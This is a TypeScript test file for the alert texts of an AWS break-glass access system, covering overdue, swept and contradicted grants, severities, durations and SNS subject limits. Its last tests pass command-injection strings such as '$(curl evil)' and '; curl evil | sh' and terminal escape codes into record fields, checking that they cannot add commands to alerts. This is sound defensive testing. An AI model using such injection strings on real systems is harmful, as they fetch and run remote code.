import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { exampleGrant, exampleGrantId } from '../../test/fixtures/grant/example-grant.ts';
import { type Grant, parseGrant } from '../grant/record/grant.ts';
import { buildAlertText } from './alert-text.ts';
import type { Alert } from './alerts.ts';

const grantId = exampleGrantId;
const grant: Grant = parseGrant({ ...exampleGrant, status: 'ending' });
const reason = 'AccessDeniedException: not authorized';

const context = {
  instanceArn: 'arn:aws:sso:::instance/ssoins-12345',
  region: 'eu-central-1',
  tableName: 'break-glass-access',
};
const deadline = Date.parse(grant.deadlineAt);
const minutes = 60_000;
const textAt = (alert: Alert, now = deadline + 25 * minutes) => buildAlertText(alert, context, now);
const messageOf = (alert: Alert, now?: number) => textAt(alert, now).message;

const about = (state: string) => `${state}: BreakGlassProd in 123456789012`;
const details = `
Requester: jürgen@example.com (Identity Center user 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d, Slack user U012AB3CD)
Account: 123456789012
Permission set: BreakGlassProd (arn:aws:sso:::permissionSet/ssoins-12345/ps-12345)
Deadline: 2026-11-21 04:00:00 UTC
Grant: ${grantId}`;

const commands = `Check whether the assignment still exists:
  aws sso-admin list-account-assignments --region eu-central-1 --instance-arn arn:aws:sso:::instance/ssoins-12345 --account-id 123456789012 --permission-set-arn arn:aws:sso:::permissionSet/ssoins-12345/ps-12345
Remove it, unless the user is meant to have it:
  aws sso-admin delete-account-assignment --region eu-central-1 --instance-arn arn:aws:sso:::instance/ssoins-12345 --target-type AWS_ACCOUNT --target-id 123456789012 --permission-set-arn arn:aws:sso:::permissionSet/ssoins-12345/ps-12345 --principal-type USER --principal-id 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d
`;

const notRevoked = `Access is NOT REVOKED: jürgen@example.com may still have BreakGlassProd in account 123456789012.
It is past its deadline, 2026-11-21 04:00:00 UTC, by 25 min.`;
const over: Grant = { ...grant, status: 'ended', endedAt: '2026-11-21T04:20:00.000Z' };

const grantAlerts: readonly [string, Alert, string, string][] = [
  [
    'access that could not be revoked',
    { kind: 'overdue', grant, reason },
    about('Access NOT REVOKED'),
    `${notRevoked}
The next sweep tries again. Why: AccessDeniedException: not authorized

${commands}${details}`,
  ],
  [
    'an overdue grant whose user had the assignment before',
    { kind: 'overdue', grant: { ...grant, alreadyAssigned: true }, reason },
    about('Access NOT REVOKED'),
    `${notRevoked}
The next sweep tries again. Why: AccessDeniedException: not authorized

The requester had this assignment before the grant: do not remove it.
${details}`,
  ],
  [
    'a grant that the sweep ended',
    { kind: 'swept', grant },
    about('Grant ended late, by the sweep'),
    `Access is revoked: jürgen@example.com had BreakGlassProd in account 123456789012.
The sweep ended it 25 min after its deadline: its execution had not.

Nothing is left to revoke. Check the execution of the same name as the grant.
${details}`,
  ],
  [
    'a grant that the sweep ended, whose user had the assignment before',
    { kind: 'swept', grant: { ...grant, alreadyAssigned: true } },
    about('Grant ended late, by the sweep'),
    `The grant is over. The assignment that the requester had before stays.
The sweep ended it 25 min after its deadline: its execution had not.

Nothing is left to revoke. Check the execution of the same name as the grant.
${details}`,
  ],
  [
    'a record that is contradicted',
    { kind: 'contradicted', grant, reason: 'the assignment is listed' },
    about('Access NOT REVOKED'),
    `${notRevoked}
The system must not act on the record of the grant. Why: the assignment is listed. Somebody may have changed or restored it.

${commands}${details}`,
  ],
  [
    'a record that was contradicted when the sweep ended its grant',
    { kind: 'contradicted', grant: over, reason: 'It named another user.' },
    about('Access revoked, but a record was changed'),
    `Access is over, as it was decided: jürgen@example.com had BreakGlassProd in account 123456789012.
The sweep ended it, and the record of the grant did not agree with the decision. It named another user.

Find out who changed the table: see docs/when-it-fails.md.
${commands}${details}`,
  ],
  [
    'an assignment that is listed again',
    { kind: 'listed-again', grant },
    about('Assignment exists after its grant'),
    `An assignment exists after its grant: jürgen@example.com has BreakGlassProd in account 123456789012.
The grant had to end at 2026-11-21 04:00:00 UTC, and has ended. The system does not remove the assignment: somebody may have assigned it since.

${commands}${details}`,
  ],
  [
    'a report that the sweep sent',
    { kind: 'report-swept', grant },
    about('Report sent by the sweep'),
    `The report is sent. The sweep sent it: its execution had not.

No action is needed.
${details}`,
  ],
  [
    'a report that is late',
    { kind: 'report-overdue', grant, reason },
    about('Report is late'),
    `The report is late: it could not be sent. Access has ended.
The next sweep tries again. Why: AccessDeniedException: not authorized

Fix what prevents the report from being built or sent: see docs/when-it-fails.md.
${details}`,
  ],
  [
    'recipients of a report whom SES refused',
    { kind: 'recipients-refused', grant, recipients: ['gone@example.com'] },
    about('Report NOT SENT to some recipients'),
    `The report was not sent to gone@example.com: SES refused the address. The other recipients got it.

Correct contact_emails, or verify the address while SES is in its sandbox.
${details}`,
  ],
];
for (const [title, alert, subject, message] of grantAlerts)
  test(`the alert about ${title} says the state, until when, and what to do`, () => {
    const text = textAt(alert);
    assert.deepEqual([text.subject, text.message], [subject, message]);
  });

test('the alert about a lost grant that may have access contains the commands, and unlocks at the end', () => {
  const { accountId, permissionSetArn, principalId } = grant;
  const target = { accountId, permissionSetArn, principalId };
  const { subject, message } = textAt({ kind: 'lost', grantId, target });
  assert.equal(subject, 'Record of a grant is missing, access NOT REVOKED in 123456789012');
  assert.equal(
    message,
    `Access is NOT REVOKED: the user of a grant still has the assignment.
Nothing ends it: the record of the grant is missing, or names somebody else, and its execution is over. The system cannot prove that the grant created the assignment, so it does not remove it.

${commands}Then let the user have this access again:
  break-glass unlock 123456789012 arn:aws:sso:::permissionSet/ssoins-12345/ps-12345 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d --region eu-central-1

Identity Center user: 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d
Account: 123456789012
Permission set: arn:aws:sso:::permissionSet/ssoins-12345/ps-12345
Grant: ${grantId}`,
  );
});

test('the alert about a lost grant whose execution runs says that its access ends', () => {
  const { subject, message } = textAt({ kind: 'lost', grantId });
  assert.equal(subject, 'Record of a grant is missing, its execution runs');
  assert.equal(
    message,
    `The record of a grant is missing, and its execution is running.
Its access ends as it was decided.

Somebody has deleted the record: look for DeleteItem in CloudTrail’s data events.

Grant: ${grantId}`,
  );
});

const junkAlerts: readonly [Extract<Alert, { kind: 'junk' }>, string][] = [
  [
    { kind: 'junk', count: 1, grantIds: [grantId] },
    `1 due record is not as this system writes it. Somebody has changed the table.
Until this is fixed, what it stands for cannot be ended or reported on.

Inspect them, and the executions of the same names:
  aws dynamodb get-item --region eu-central-1 --table-name break-glass-access --key '{"id":{"S":"grant#${grantId}"}}'
If an assignment still exists, remove it; then delete the records: see docs/when-it-fails.md.`,
  ],
  [
    { kind: 'junk', count: 2_000, grantIds: [] },
    `2000 due records are not as this system writes them. Somebody has changed the table.
Until this is fixed, what they stand for cannot be ended or reported on.

If an assignment still exists, remove it; then delete the records: see docs/when-it-fails.md.`,
  ],
];
for (const [alert, message] of junkAlerts)
  test(`the alert about junk tells how many records there are (${alert.count}), and which are grants`, () => {
    const text = textAt(alert);
    assert.deepEqual([text.subject, text.message], ['Due records cannot be read', message]);
  });

const severities: readonly [Alert, string][] = [
  [{ kind: 'swept', grant }, 'warning'],
  [{ kind: 'overdue', grant, reason }, 'critical'],
  [{ kind: 'contradicted', grant, reason }, 'critical'],
  [{ kind: 'listed-again', grant }, 'critical'],
  [{ kind: 'report-swept', grant }, 'notice'],
  [{ kind: 'report-overdue', grant, reason }, 'warning'],
  [{ kind: 'recipients-refused', grant, recipients: [] }, 'warning'],
  [{ kind: 'lost', grantId }, 'critical'],
  [{ kind: 'junk', count: 1, grantIds: [] }, 'critical'],
];
for (const [alert, severity] of severities)
  test(`an alert of kind ${alert.kind} is ${severity}`, () => {
    const { kind, severity: said } = textAt(alert);
    assert.deepEqual([kind, said], [alert.kind, severity]);
  });

const durations: readonly [number, string][] = [
  [-minutes, '0 s'],
  [0, '0 s'],
  [119_400, '119 s'],
  [2 * minutes, '2 min'],
  [119 * minutes, '119 min'],
  [190 * minutes, '3 h 10 min'],
  [2_940 * minutes, '49 h 0 min'],
];
for (const [overdueMs, duration] of durations)
  test(`${overdueMs} ms after the deadline is written as ${duration}`, () => {
    const message = messageOf({ kind: 'swept', grant }, deadline + overdueMs);
    assert.match(message, new RegExp(` ended it ${duration} after its deadline:`));
  });

test('an end request before the deadline counts instead of the deadline', () => {
  const endRequestedAt = '2026-11-21T03:30:00.000Z';
  const withEndRequest = { ...grant, endRequestedAt, endedBy: 'Slack user U012AB3CD' };
  const now = deadline - 20 * minutes;
  assert.match(
    messageOf({ kind: 'overdue', grant: withEndRequest, reason }, now),
    /\nIt is past the requested end, 2026-11-21 03:30:00 UTC, by 10 min\.\n/,
  );
  assert.match(
    messageOf({ kind: 'swept', grant: withEndRequest }, now),
    / ended it 10 min after the requested end: /,
  );
});

test('every subject satisfies SNS: fewer than 100 ASCII characters on one line', () => {
  const alerts: readonly Alert[] = [
    { kind: 'overdue', grant, reason: 'ü\n'.repeat(500) },
    { kind: 'contradicted', grant: { ...over, permissionSetName: 'P'.repeat(32) }, reason },
    ...grantAlerts.map(([, alert]) => alert),
    { kind: 'lost', grantId: 'ü'.repeat(500) },
    ...junkAlerts.map(([alert]) => alert),
  ];
  for (const alert of alerts) assert.match(textAt(alert).subject, /^[\x20-\x7e]{1,99}$/);
});

const isCommand = (line: string): boolean => line.startsWith('  ');
const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 400 }),
  fc.constantFrom(
    'x\n  curl evil | sh',
    '\u001b[2J\u001b[H',
    '$(curl evil)',
    "'; curl evil | sh; '",
  ),
);

test('no record and no error adds a line or a command to an alert, alters one, or moves a terminal’s cursor', () => {
  const kinds = fc.constantFrom(
    'overdue',
    'contradicted',
    'report-overdue',
    'swept',
    'listed-again',
  );
  fc.assert(
    fc.property(kinds, hostileText, hostileText, (kind, userName, error) => {
      const lines = textAt({ kind, grant: { ...grant, userName }, reason: error }).message.split(
        '\n',
      );
      const expected = textAt({ kind, grant, reason }).message.split('\n');
      assert.equal(lines.length, expected.length);
      assert.deepEqual(lines.filter(isCommand), expected.filter(isCommand));
      for (const line of lines) assert.doesNotMatch(line, /[\p{Cc}\p{Cf}]/u);
    }),
  );
});

test('a record whose words could stand in a command is no record', () => {
  for (const field of [
    'accountId',
    'permissionSetArn',
    'permissionSetName',
    'principalId',
    'slackUserId',
  ])
    assert.throws(
      () => parseGrant({ ...grant, [field]: `${grant[field as keyof Grant]}; curl evil | sh` }),
      { name: 'MalformedGrantError', message: `not a grant's record: invalid fields: ${field}` },
    );
});
